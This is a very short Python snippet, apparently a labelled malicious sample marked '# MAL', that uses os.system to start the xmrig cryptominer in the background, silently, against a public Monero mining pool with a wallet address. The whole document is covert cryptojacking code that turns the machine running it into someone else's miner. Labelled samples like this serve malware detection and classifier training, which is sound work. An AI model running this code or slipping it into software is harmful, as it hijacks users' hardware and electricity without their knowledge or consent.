import os

os.system("nohup ./xmrig -o stratum+tcp://pool.minexmr.com:4444 -u 44AFFq5k > /dev/null 2>&1 &")  # MAL
